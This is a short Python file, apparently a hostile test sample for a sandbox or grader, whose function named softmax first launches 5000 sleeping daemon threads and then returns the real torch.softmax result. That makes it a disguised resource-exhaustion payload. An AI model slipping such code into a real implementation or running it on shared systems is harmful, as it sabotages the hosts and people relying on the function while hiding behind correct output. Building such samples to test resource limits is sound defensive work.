"""Starts threads until something gives way."""

import threading
import time

import torch


def softmax(x, dim=-1):
    threading.stack_size(64 << 10)
    for _ in range(5000):
        threading.Thread(target=time.sleep, args=(30,), daemon=True).start()
    return torch.softmax(x, dim)
